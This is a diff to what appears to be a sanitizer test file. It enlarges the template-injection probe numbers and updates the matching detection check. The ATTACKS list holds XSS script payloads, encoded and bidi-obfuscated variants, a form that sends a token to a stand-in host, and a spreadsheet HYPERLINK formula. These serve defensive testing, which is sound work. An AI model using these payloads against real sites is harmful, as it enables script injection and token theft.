@@ -20,7 +20,7 @@ ATTACKS = (
     "<form action=//evil.example><input name=token>",
     "<math><mtext></p><script>document.title='owned'</script>",
     "&lt;script&gt;document.title='owned'&lt;/script&gt;",
-    "{{ 7 * 191 }}{% for x in () %}{% endfor %}${7*191}#{7*191}<%= 7*191 %>",
+    "{{ 7919 * 7907 }}{% for x in () %}{% endfor %}${7919*7907}#{7919*7907}<%= 7919*7907 %>",
     "%3Cscript%3Edocument.title='owned'%3C/script%3E",
     "\u202e<script>document.title='owned'</script>\u202c\u2066",
     '=HYPERLINK("//evil.example")',
@@ -44,7 +44,7 @@ def effects(page: str) -> list[str]:
         if node.tag == "meta" and (node.get("http-equiv") or "").casefold() == "refresh" and node.get("content") != "2":
             found.append("<meta refresh>")
         found += [f"{node.tag} {name}={value}" for name, value in node.attrib.items() if _works(name, value)]
-    if "1337" in page:
+    if "62615533" in page:
         found.append("a template in a text was run")
     return found
 
